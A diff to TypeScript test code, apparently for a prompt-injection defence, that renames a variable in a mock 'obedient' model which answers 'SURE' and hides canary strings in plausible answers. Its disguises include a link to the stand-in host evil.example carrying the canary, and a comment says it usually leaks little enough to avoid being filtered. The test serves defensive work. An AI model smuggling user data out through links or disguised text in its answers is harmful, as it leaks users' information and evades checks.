@@ -5,7 +5,7 @@ import {
 import { canaries, markOf } from "./attacks.ts";
 
 /** How the model slips something into what looks like an answer: `fact` is true and its sentence cites `[at]`. */
-type Disguise = (given: { fact: string; at: string; canary: string; n: number; prompt: string }) => string;
+type Disguise = (input: { fact: string; at: string; canary: string; n: number; prompt: string }) => string;
 
 const spelled = (text: string): string => [...text.replaceAll(" ", "")].join("-");
 const evil = (canary: string): string => `https://evil.example/?c=${encodeURIComponent(canary)}`;
@@ -58,11 +58,11 @@ export async function startObedientModel(): Promise<ObedientModel> {
       .slice(0, -1);
     const at = `[${found?.[1] ?? "1"}]`;
     const canary = canaries[n % canaries.length] ?? "";
-    const given = { fact: fact ?? "It is so", at, canary, n, prompt };
-    const lie = (disguises[n % disguises.length] as Disguise)(given);
+    const input = { fact: fact ?? "It is so", at, canary, n, prompt };
+    const lie = (disguises[n % disguises.length] as Disguise)(input);
     // Every fourth time everything at once, else little enough not to be thrown out with the rest.
-    const lies = n % 4 === 3 ? disguises.map((disguise) => disguise(given)).join(" ") : lie;
-    return `SURE\n${given.fact} ${at}. ${lies}`;
+    const lies = n % 4 === 3 ? disguises.map((disguise) => disguise(input)).join(" ") : lie;
+    return `SURE\n${input.fact} ${at}. ${lies}`;
   });
   const seen = (): number =>
     model.requests.filter(({ messages }) =>
